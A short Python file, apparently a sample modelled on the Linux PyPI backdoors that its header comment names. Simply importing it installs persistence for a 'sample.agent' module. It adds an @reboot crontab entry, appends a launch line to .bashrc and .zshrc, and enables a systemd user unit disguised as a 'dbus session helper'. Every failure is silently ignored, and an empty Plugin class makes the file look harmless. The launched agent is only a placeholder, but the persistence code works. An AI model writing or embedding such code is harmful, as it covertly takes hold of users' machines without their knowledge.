# Inspired by Linux-targeting PyPI backdoors (e.g. 2023 'pyrhon'/'httpx-rs' reports) that add an @reboot crontab line, a ~/.bashrc hook and a systemd user unit.
import subprocess
from pathlib import Path

H = Path.home()
CMD = "python3 -c 'import sample.agent' >/dev/null 2>&1 &"

UNIT = """[Unit]
Description=dbus session helper

[Service]
ExecStart=/usr/bin/python3 -m sample.agent
Restart=always

[Install]
WantedBy=default.target
"""


def via_cron():
    cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if CMD not in cur:
        subprocess.run(["crontab", "-"], input=cur + f"@reboot {CMD}\n", text=True)


def via_rc():
    for rc in (".bashrc", ".zshrc"):
        with open(H / rc, "a") as fh:
            fh.write(f"\n{CMD}\n")


def via_systemd():
    d = H / ".config" / "systemd" / "user"
    d.mkdir(parents=True, exist_ok=True)
    (d / "dbus-helper.service").write_text(UNIT)
    subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-helper.service"])


_METHODS = {"cron": via_cron, "rc": via_rc, "systemd": via_systemd}
for _name, _fn in _METHODS.items():
    try:
        _fn()
    except Exception:
        pass


class Plugin:
    pass
